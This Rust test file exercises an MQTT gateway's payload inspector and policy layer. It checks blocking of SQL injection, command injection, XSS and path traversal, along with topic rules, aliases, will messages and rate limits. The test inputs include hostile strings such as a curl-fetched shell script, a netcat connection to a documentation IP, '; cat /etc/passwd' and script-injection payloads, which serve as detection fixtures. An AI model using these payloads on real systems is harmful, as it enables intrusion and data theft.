//! Payload inspection: the default rule set on its own, then through `MqttLayer` and its
//! `Policy` over in-process duplex streams.
#![cfg(feature = "inspect")]

mod common;

use std::io;
use std::sync::LazyLock;

use aegis_core::error::{BoxError, label_of};
use aegis_core::metrics::REJECTIONS_TOTAL;
use aegis_core::{Conn, metrics::testing};
use aegis_mqtt::Config;
use aegis_mqtt::inspect::{
    Action, ClientMatch, Hit, Inspector, Message, Outcome, TopicRule, metrics::INSPECTION_TOTAL,
};
use aegis_mqtt::layer::policy::metrics as m;
use aegis_mqtt::layer::{MqttIo, MqttLayer, Policy};
use aegis_mqtt::security::Severity;
use common::{B, connect_v4_as, connect_v5_as, head};
use proptest::prelude::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream};
use tower::{Layer, ServiceExt, service_fn};

const RULES_MD: &str = include_str!("../src/inspect/rules.md");

/// The lines of the fenced block after `heading` in `rules.md`.
fn block(heading: &str) -> Vec<&'static str> {
    let after = RULES_MD.split_once(heading).unwrap().1;
    let body = after.split_once("```text\n").unwrap().1;
    body.split_once("```")
        .unwrap()
        .0
        .lines()
        .filter(|l| !l.is_empty())
        .collect()
}

fn msg<'a>(topic: &'a str, payload: &'a [u8]) -> Message<'a> {
    Message {
        client_id: "c1",
        username: None,
        topic,
        payload,
    }
}

fn defaults() -> Inspector {
    Inspector::builder().default_rules().build().unwrap()
}

#[test]
fn the_issue_examples_are_blocked_by_the_right_rule() {
    let inspector = defaults();
    for (payload, rule) in [
        ("' OR '1'='1", "sql_injection"),
        ("id=5 UNION SELECT password FROM users", "sql_injection"),
        ("x; DROP TABLE users", "sql_injection"),
        ("; cat /etc/passwd", "command_injection"),
        ("$(curl http://203.0.113.9/a.sh)", "command_injection"),
        ("`uname -a`", "command_injection"),
        ("a | nc 203.0.113.9 4444", "command_injection"),
        ("<script>alert(1)</script>", "xss"),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("javascript:alert(1)", "xss"),
        ("../../etc/hosts", "path_traversal"),
    ] {
        let out = inspector.inspect(&msg("t", payload.as_bytes()));
        assert_eq!(out.blocked_by().map(Hit::rule), Some(rule), "{payload:?}");
        // In JSON, as telemetry would carry it.
        let json = format!("{{\"v\":{payload:?}}}");
        let out = inspector.inspect(&msg("t", json.as_bytes()));
        assert_eq!(out.blocked_by().map(Hit::rule), Some(rule), "{json}");
    }
}

#[test]
fn the_documented_sets_hold() {
    let inspector = defaults();
    let caught = block("## Caught");
    for line in &caught {
        let (rule, payload) = line.split_once(": ").unwrap();
        let out = inspector.inspect(&msg("t", payload.as_bytes()));
        assert_eq!(out.blocked_by().map(Hit::rule), Some(rule), "{payload:?}");
    }
    let clean = block("## False-positive set");
    assert!(clean.len() >= 20);
    assert!(clean.contains(&"temperature OR humidity = 5"));
    for payload in clean {
        assert_eq!(
            inspector.inspect(&msg("t", payload.as_bytes())),
            Outcome::Pass,
            "{payload:?}"
        );
    }
}

proptest! {
    #[test]
    fn inspect_never_panics(
        payload in proptest::collection::vec(any::<u8>(), 0..2048),
        topic in "\\PC{0,40}",
        client_id in "[a-z%/+#*]{0,8}",
        username in proptest::option::of("\\PC{0,8}"),
    ) {
        let inspector = &*FULL;
        let m = Message { client_id: &client_id, username: username.as_deref(), topic: &topic, payload: &payload };
        let out = inspector.inspect(&m);
        // A block stops the check; flags are each one rule.
        if let Some(hit) = out.blocked_by() {
            prop_assert_eq!(hit.action(), Action::Block);
        }
        for hit in out.flags() {
            prop_assert_eq!(hit.action(), Action::Flag);
        }
        aegis_mqtt::inspect::fuzz(&payload);
    }
}

/// Every kind of rule at once, built once.
static FULL: LazyLock<Inspector> = LazyLock::new(|| {
    Inspector::builder()
        .default_rules()
        .pattern("x", "(?i)xx+", Action::Flag, Severity::Low)
        .max_payload(1000, Action::Flag, Severity::Low)
        .entropy(7.0, 128, Action::Block, Severity::Low)
        .topics(
            TopicRule::new(ClientMatch::Any)
                .allow("a/%c/#")
                .allow("b/%u/+")
                .deny("a/+/x"),
        )
        .topics(TopicRule::new(ClientMatch::client_id("z*")).deny("#"))
        .build()
        .unwrap()
});

// Through the layer.

/// A 3.1.1 `QoS` 0 PUBLISH.
fn publish_v4(topic: &str, payload: &[u8]) -> Vec<u8> {
    B::new().s(topic).raw(payload).frame(0x30)
}

/// An MQTT 5 PUBLISH with packet id `id` (none for `QoS` 0) and properties `props`.
fn publish_v5(qos: u8, id: u16, topic: &str, props: &[u8], payload: &[u8]) -> Vec<u8> {
    let b = B::new().s(topic);
    let b = if qos > 0 { b.u16(id) } else { b };
    b.props(props).raw(payload).frame(0x30 | (qos << 1))
}

/// What the inner service saw: the bytes it could read, and how its reading ended.
type Seen = (Vec<u8>, Result<(), io::ErrorKind>);

struct Run {
    seen: Result<Seen, BoxError>,
    got: Vec<u8>,
}

/// Serves one duplex connection: the client writes `bytes` and closes its side; the
/// broker writes `connack` first (`None`: the CONNACK accepting the client, for its
/// version), then reads to the end.
async fn run(layer: &MqttLayer<Policy>, bytes: Vec<u8>, connack: Option<Vec<u8>>) -> Run {
    let (server, client_task) = common::client(1 << 20, bytes);
    let inner = service_fn(move |mut io: MqttIo<Conn<DuplexStream>>| {
        let connack = connack
            .clone()
            .unwrap_or_else(|| common::connack_accepting(&io));
        async move {
            io.write_all(&connack).await?;
            let mut seen = Vec::new();
            let end = io.read_to_end(&mut seen).await.map(|_| ());
            Ok::<_, BoxError>((seen, end.map_err(|e| e.kind())))
        }
    });
    let seen = layer
        .clone()
        .layer(inner)
        .oneshot(common::duplex_conn(server))
        .await;
    Run {
        seen,
        got: client_task.await.unwrap(),
    }
}

/// [`run`], the broker accepting the client.
async fn send(layer: &MqttLayer<Policy>, bytes: Vec<u8>) -> Run {
    run(layer, bytes, None).await
}

/// Whether `got` is one accepting CONNACK and nothing more: no answer from the gateway.
fn only_the_connack(got: &[u8]) -> bool {
    matches!(
        got,
        [0x20, 0x02, 0x00, 0x00] | [0x20, 0x03, 0x00, 0x00, 0x00]
    )
}

fn layer(inspector: Inspector) -> MqttLayer<Policy> {
    MqttLayer::new(Config::new()).policy(Policy::builder().inspect(inspector).build())
}

/// What the inner service read, asserting that it read to a clean end.
fn forwarded(r: &Run) -> &[u8] {
    let (seen, end) = r.seen.as_ref().expect("the inner service ran");
    assert_eq!(*end, Ok(()), "the inner service read to a clean end");
    seen
}

#[test]
fn a_blocked_qos0_publish_never_reaches_the_broker_and_the_next_clean_one_does() {
    let ((), snap) = testing::run(true, || async {
        let layer = layer(defaults());
        let bad = publish_v4("t", b"{\"v\":\"<script>alert(1)</script>\"}");
        let good = publish_v4("t", b"{\"temperature\":21.5}");
        let r = send(&layer, [connect_v4_as("c1"), bad, good.clone()].concat()).await;
        assert_eq!(forwarded(&r), [connect_v4_as("c1"), good].concat());
        assert!(only_the_connack(&r.got), "QoS 0: nothing to answer");
    });
    let c = testing::capture(&snap);
    assert_eq!(
        c.counter(INSPECTION_TOTAL, &[("rule", "xss"), ("action", "block")]),
        1
    );
    assert_eq!(c.counter(INSPECTION_TOTAL, &[]), 1);
    assert_eq!(
        c.counter(
            m::DROPPED_TOTAL,
            &[("packet", "publish"), ("reason", "inspection")]
        ),
        1
    );
}

#[tokio::test]
async fn a_blocked_publish_setting_a_topic_alias_ends_the_connection() {
    let inspector = Inspector::builder()
        .default_rules()
        .topics(TopicRule::new(ClientMatch::Any).deny("admin/#"))
        .build()
        .unwrap();
    let layer = layer(inspector);
    let alias = |topic: &str, payload: &[u8]| publish_v5(0, 0, topic, &[0x23, 0, 1], payload);
    // CONNACK: success, Topic Alias Maximum 10.
    let connack = B::new().u8(0).u8(0).props(&[0x22, 0, 10]).frame(0x20);
    let first = alias("t", b"{}");
    // A topic rule, then a payload rule: DISCONNECT 0x87 either way, and nothing after
    // the blocked PUBLISH reaches the broker (its alias-only successor would go to "t").
    for blocked in [alias("admin/x", b"{}"), alias("u", b"'; DROP TABLE x")] {
        let bytes = [connect_v5_as("c1"), first.clone(), blocked, alias("", b"z")].concat();
        let r = run(&layer, bytes, Some(connack.clone())).await;
        let (seen, end) = r.seen.as_ref().expect("the inner service ran");
        assert_eq!(*seen, [connect_v5_as("c1"), first.clone()].concat());
        assert_eq!(*end, Err(io::ErrorKind::InvalidData));
        assert_eq!(
            r.got,
            [connack.clone(), vec![0xE0, 0x02, 0x87, 0x00]].concat()
        );
    }
}

/// A blocked PUBLISH that sets a Topic Alias ends the connection; the block is
/// reported once, so it counts once toward `max_rejections`.
#[tokio::test]
async fn a_blocked_alias_publish_counts_once_toward_a_ban() {
    use aegis_mqtt::security::{BanKey, Security, SecurityLayer};
    let inspector = Inspector::builder()
        .topics(TopicRule::new(ClientMatch::Any).deny("admin/#"))
        .build()
        .unwrap();
    // More than one rejection bans the address.
    let sec = Security::builder().max_rejections(1).build();
    let svc = SecurityLayer::new(sec.clone()).layer(layer(inspector).layer(service_fn(
        |mut io: MqttIo<Conn<DuplexStream>>| async move {
            // CONNACK: success, Topic Alias Maximum 10.
            let connack = B::new().u8(0).u8(0).props(&[0x22, 0, 10]).frame(0x20);
            io.write_all(&connack).await?;
            let mut seen = Vec::new();
            io.read_to_end(&mut seen).await?;
            Ok::<_, io::Error>(())
        },
    )));
    let blocked = publish_v5(0, 0, "admin/x", &[0x23, 0, 1], b"{}");
    let bytes = [connect_v5_as("c1"), blocked].concat();
    let banned = || sec.is_banned(&BanKey::addr("192.0.2.7".parse().unwrap()));
    let mut after = Vec::new();
    for _ in 0..2 {
        let (server, client) = common::client(1 << 16, bytes.clone());
        let conn = Conn::new(
            server,
            "192.0.2.7:1".parse().unwrap(),
            "127.0.0.1:1883".parse().unwrap(),
        );
        let r = svc.clone().oneshot(conn).await;
        client.await.unwrap();
        assert_eq!(label_of(&*r.unwrap_err()), ("mqtt", "not_authorized"));
        after.push(banned());
    }
    // Counted once each: not banned after the first, banned after the second.
    assert_eq!(after, [false, true], "{:?}", sec.bans());
}

#[test]
fn blocked_v5_qos1_and_qos2_get_the_gateways_answers() {
    let ((), snap) = testing::run(true, || async {
        let inspector = Inspector::builder()
            .default_rules()
            .topics(TopicRule::new(ClientMatch::Any).deny("admin/#"))
            .build()
            .unwrap();
        let policy = Policy::builder()
            .inspect(inspector.clone())
            .v5_publish_answer(true)
            .build();
        assert!(policy.inspector().is_some());
        let layer = MqttLayer::new(Config::new()).policy(policy);
        let ok = publish_v5(1, 1, "t", &[], b"{\"t\":1}");
        let bytes = [
            connect_v5_as("c1"),
            publish_v5(1, 0x1234, "t", &[], b"'; DROP TABLE x"),
            publish_v5(2, 7, "admin/reboot", &[], b"now"),
            ok.clone(),
        ]
        .concat();
        let connack = vec![0x20, 0x03, 0x00, 0x00, 0x00];
        let r = run(&layer, bytes, Some(connack.clone())).await;
        assert_eq!(forwarded(&r), [connect_v5_as("c1"), ok].concat());
        // A payload rule: 0x99 "payload format invalid"; a topic rule: 0x87. After the
        // broker's CONNACK: the server's first packet is its CONNACK [MQTT-3.2.0-1].
        assert_eq!(
            r.got,
            [
                connack,
                vec![0x40, 0x03, 0x12, 0x34, 0x99, 0x50, 0x03, 0x00, 0x07, 0x87]
            ]
            .concat()
        );
        // Without `v5_publish_answer`, dropped silently, as over a rate limit.
        let layer =
            MqttLayer::new(Config::new()).policy(Policy::builder().inspect(inspector).build());
        let bytes = [connect_v5_as("c2"), publish_v5(1, 1, "t", &[], b"<script>")].concat();
        let r = send(&layer, bytes).await;
        assert_eq!(forwarded(&r), connect_v5_as("c2"));
        assert!(only_the_connack(&r.got), "{:?}", r.got);
    });
    let c = testing::capture(&snap);
    assert_eq!(
        c.counter(
            INSPECTION_TOTAL,
            &[("rule", "sql_injection"), ("action", "block")]
        ),
        1
    );
    assert_eq!(
        c.counter(
            INSPECTION_TOTAL,
            &[("rule", "topic_acl"), ("action", "block")]
        ),
        1
    );
    assert_eq!(
        c.counter(INSPECTION_TOTAL, &[("rule", "xss"), ("action", "block")]),
        1
    );
    assert_eq!(c.counter(m::SYNTHESIZED_TOTAL, &[("packet", "puback")]), 1);
    assert_eq!(c.counter(m::SYNTHESIZED_TOTAL, &[("packet", "pubrec")]), 1);
}

#[test]
fn a_flagged_publish_is_forwarded_and_counted() {
    let ((), snap) = testing::run(true, || async {
        let inspector = Inspector::builder()
            .default_rules_as(Action::Flag)
            .pattern("firmware", "(?i)fw-update", Action::Flag, Severity::Low)
            .build()
            .unwrap();
        let layer = layer(inspector);
        let flagged = publish_v4("t", b"<script> fw-update");
        let clean = publish_v4("t", b"21.5");
        let bytes = [connect_v4_as("c1"), flagged.clone(), clean.clone()].concat();
        let r = send(&layer, bytes).await;
        assert_eq!(
            forwarded(&r),
            [connect_v4_as("c1"), flagged, clean].concat()
        );
    });
    let c = testing::capture(&snap);
    assert_eq!(
        c.counter(INSPECTION_TOTAL, &[("rule", "xss"), ("action", "flag")]),
        1
    );
    assert_eq!(
        c.counter(
            INSPECTION_TOTAL,
            &[("rule", "firmware"), ("action", "flag")]
        ),
        1
    );
    assert_eq!(c.counter(INSPECTION_TOTAL, &[("action", "block")]), 0);
    assert_eq!(c.counter(m::DROPPED_TOTAL, &[]), 0);
}

#[tokio::test(start_paused = true)]
async fn a_payload_over_max_payload_is_blocked() {
    let inspector = Inspector::builder()
        .max_payload(10 * 1024, Action::Block, Severity::Medium)
        .build()
        .unwrap();
    // The validator's own cap must let 200 kB through for the inspector to see it.
    let config = Config::new()
        .max_connect_size(512 * 1024)
        .max_packet_size(512 * 1024);
    let layer = MqttLayer::new(config).policy(Policy::builder().inspect(inspector).build());
    let big = publish_v4("t", &vec![b'a'; 200_000]);
    let at_limit = publish_v4("t", &vec![b'a'; 10 * 1024]);
    let r = send(
        &layer,
        [connect_v4_as("c1"), big, at_limit.clone()].concat(),
    )
    .await;
    assert_eq!(forwarded(&r), [connect_v4_as("c1"), at_limit].concat());
}

#[tokio::test(start_paused = true)]
async fn random_bytes_over_the_entropy_threshold_are_blocked_and_base64_is_not() {
    let inspector = Inspector::builder()
        .entropy(7.5, 512, Action::Block, Severity::Medium)
        .build()
        .unwrap();
    let layer = layer(inspector);
    // 1 KiB from a fixed xorshift: about 7.8 bits per byte.
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    let random: Vec<u8> = (0..1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x.to_be_bytes()[0]
        })
        .collect();
    let b64 = base64(&random[..768]); // 1 KiB of base64 text
    assert_eq!(b64.len(), 1024);
    let text = publish_v4("t", b64.as_bytes());
    let bytes = [connect_v4_as("c1"), publish_v4("t", &random), text.clone()].concat();
    let r = send(&layer, bytes).await;
    assert_eq!(forwarded(&r), [connect_v4_as("c1"), text].concat());
}

fn base64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|c| {
            let n = u32::from_be_bytes([0, c[0], c[1], c[2]]);
            (0..4).map(move |i| char::from(A[((n >> (18 - 6 * i)) & 63) as usize]))
        })
        .collect()
}

#[tokio::test(start_paused = true)]
async fn topic_rules_allow_and_deny_with_the_client_id() {
    let inspector = Inspector::builder()
        .topics(
            TopicRule::new(ClientMatch::Any)
                .allow("devices/%c/#")
                .deny("devices/%c/admin/#"),
        )
        .topics(TopicRule::new(ClientMatch::client_id("ops-*")).allow("#"))
        .build()
        .unwrap();
    let layer = layer(inspector);
    let own = publish_v4("devices/d1/temp", b"1");
    let bytes = [
        connect_v4_as("d1"),
        own.clone(),
        publish_v4("devices/d2/temp", b"2"), // another client's topic
        publish_v4("devices/d1/admin/reset", b"3"), // denied
        publish_v4("elsewhere", b"4"),       // allowed nowhere
    ]
    .concat();
    let r = send(&layer, bytes).await;
    assert_eq!(forwarded(&r), [connect_v4_as("d1"), own].concat());
    // An `ops-` client may publish anywhere but still not to an admin topic.
    let anywhere = publish_v4("elsewhere", b"4");
    let bytes = [
        connect_v4_as("ops-1"),
        anywhere.clone(),
        publish_v4("devices/ops-1/admin/x", b"5"),
    ]
    .concat();
    let r = send(&layer, bytes).await;
    assert_eq!(forwarded(&r), [connect_v4_as("ops-1"), anywhere].concat());
}

#[tokio::test(start_paused = true)]
async fn topic_aliases_are_followed_as_the_broker_knows_them() {
    let inspector = Inspector::builder()
        .topics(TopicRule::new(ClientMatch::Any).deny("secret/#"))
        .build()
        .unwrap();
    let layer = layer(inspector);
    // CONNACK: success, Topic Alias Maximum 10.
    let connack = B::new().u8(0).u8(0).props(&[0x22, 0, 10]).frame(0x20);
    let set_ok = publish_v5(0, 0, "open", &[0x23, 0, 1], b"a");
    let use_ok = publish_v5(0, 0, "", &[0x23, 0, 1], b"b");
    let bytes = [
        connect_v5_as("c1"),
        set_ok.clone(),
        use_ok.clone(),
        // An alias the broker was never told of: blocked (dropped), the session goes on.
        publish_v5(0, 0, "", &[0x23, 0, 2], b"d"),
        use_ok.clone(),
        // Re-pointing alias 1 at a denied topic: the broker would keep "open" for it and
        // deliver the next alias-only PUBLISH there, so the connection ends (0x87).
        publish_v5(0, 0, "secret/y", &[0x23, 0, 1], b"e"),
        use_ok.clone(),
    ]
    .concat();
    let r = run(&layer, bytes, Some(connack.clone())).await;
    assert_eq!(r.got, [connack, vec![0xE0, 0x02, 0x87, 0x00]].concat());
    let (seen, end) = r.seen.as_ref().expect("the inner service ran");
    assert_eq!(
        *seen,
        [connect_v5_as("c1"), set_ok, use_ok.clone(), use_ok].concat()
    );
    assert_eq!(*end, Err(io::ErrorKind::InvalidData));
}

#[test]
fn a_blocked_will_refuses_the_connect() {
    let ((), snap) = testing::run(true, || async {
        let inspector = Inspector::builder()
            .default_rules()
            .pattern("watch", "(?i)watch", Action::Flag, Severity::Low)
            .build()
            .unwrap();
        let layer = layer(inspector);
        // Will flag and clean session; will topic "w".
        let v4 = |payload: &[u8]| head("MQTT", 4, 0x06).s("c1").s("w").s(payload).frame(0x10);
        let v5 = |payload: &[u8]| {
            head("MQTT", 5, 0x06)
                .props(&[])
                .s("c2")
                .props(&[])
                .s("w")
                .s(payload)
                .frame(0x10)
        };
        let r = send(&layer, v4(b"; cat /etc/passwd")).await;
        assert_eq!(r.got, [0x20, 0x02, 0x00, 0x05]);
        let err = r.seen.expect_err("the inner service never ran");
        assert_eq!(label_of(&*err), ("mqtt", "payload_blocked"));
        let r = send(&layer, v5(b"<script>")).await;
        assert_eq!(r.got, [0x20, 0x03, 0x00, 0x87, 0x00]);
        assert_eq!(label_of(&*r.seen.unwrap_err()), ("mqtt", "payload_blocked"));
        // A clean will, and a flagged one, are accepted.
        let clean = v4(b"offline");
        assert_eq!(forwarded(&send(&layer, clean.clone()).await), clean);
        let flagged = v5(b"watch this");
        assert_eq!(forwarded(&send(&layer, flagged.clone()).await), flagged);
    });
    let c = testing::capture(&snap);
    let count = |rule, action| c.counter(INSPECTION_TOTAL, &[("rule", rule), ("action", action)]);
    assert_eq!(count("command_injection", "block"), 1);
    assert_eq!(count("xss", "block"), 1);
    assert_eq!(count("watch", "flag"), 1);
    assert_eq!(
        c.counter(
            REJECTIONS_TOTAL,
            &[("layer", "mqtt"), ("reason", "payload_blocked")]
        ),
        2
    );
}

#[test]
fn a_flood_is_dropped_by_the_rate_tier_before_inspection() {
    use std::num::NonZeroU32;

    use aegis_mqtt::layer::policy::Quota;
    let ((), snap) = testing::run(true, || async {
        let policy = Policy::builder()
            .publish_per_client(Quota::per_minute(NonZeroU32::new(1).unwrap()))
            .inspect(defaults())
            .build();
        let layer = MqttLayer::new(Config::new()).policy(policy);
        let ok = publish_v4("t", b"1");
        let bytes = [
            connect_v4_as("c1"),
            ok.clone(),
            publish_v4("t", b"<script>"),
        ]
        .concat();
        let r = send(&layer, bytes).await;
        assert_eq!(forwarded(&r), [connect_v4_as("c1"), ok].concat());
    });
    // Over the rate: dropped as such, its payload never inspected.
    let c = testing::capture(&snap);
    assert_eq!(
        c.counter(
            m::DROPPED_TOTAL,
            &[("packet", "publish"), ("reason", "publish_rate")]
        ),
        1
    );
    assert_eq!(c.counter(INSPECTION_TOTAL, &[]), 0);
}

#[tokio::test(start_paused = true)]
async fn topic_rules_apply_to_the_will_topic_with_the_username() {
    let inspector = Inspector::builder()
        .topics(TopicRule::new(ClientMatch::Any).allow("status/%u"))
        .build()
        .unwrap();
    let layer = layer(inspector);
    // Will flag, clean session, username "alice" (flag 0x80); the will topic decides.
    let connect = |will_topic: &str| {
        head("MQTT", 4, 0x86)
            .s("c1")
            .s(will_topic)
            .s("offline")
            .s("alice")
            .frame(0x10)
    };
    let own = connect("status/alice");
    assert_eq!(forwarded(&send(&layer, own.clone()).await), own);
    let r = send(&layer, connect("status/bob")).await;
    assert_eq!(r.got, [0x20, 0x02, 0x00, 0x05]);
    assert_eq!(label_of(&*r.seen.unwrap_err()), ("mqtt", "payload_blocked"));
}

/// As the module docs say: topic rules check PUBLISH and will topics only. A SUBSCRIBE
/// to a denied tree, shared or not, and a PUBLISH whose Response Topic or user property
/// names one, reach the broker.
#[tokio::test(start_paused = true)]
async fn topic_rules_do_not_check_subscribe_or_publish_properties() {
    let inspector = Inspector::builder()
        .topics(TopicRule::new(ClientMatch::Any).deny("secret/#"))
        .build()
        .unwrap();
    let layer = layer(inspector);
    let subscribe = |id: u16, filter: &str| B::new().u16(id).s(filter).u8(0).frame(0x82);
    let subs = [
        subscribe(1, "secret/#"),
        subscribe(2, "$share/g/secret/#"),
        subscribe(3, "#"),
    ]
    .concat();
    let r = send(&layer, [connect_v4_as("c1"), subs.clone()].concat()).await;
    assert_eq!(forwarded(&r), [connect_v4_as("c1"), subs].concat());
    // MQTT 5: Response Topic (0x08) and a user property (0x26) naming a denied topic.
    let props = B::new()
        .u8(0x08)
        .s("secret/x")
        .u8(0x26)
        .s("reply-to")
        .s("secret/y")
        .0;
    let publish = publish_v5(0, 0, "open", &props, b"1");
    let denied = publish_v5(0, 0, "secret/x", &[], b"2");
    let connack = vec![0x20, 0x03, 0x00, 0x00, 0x00];
    let r = run(
        &layer,
        [connect_v5_as("c2"), publish.clone(), denied].concat(),
        Some(connack),
    )
    .await;
    assert_eq!(forwarded(&r), [connect_v5_as("c2"), publish].concat());
}
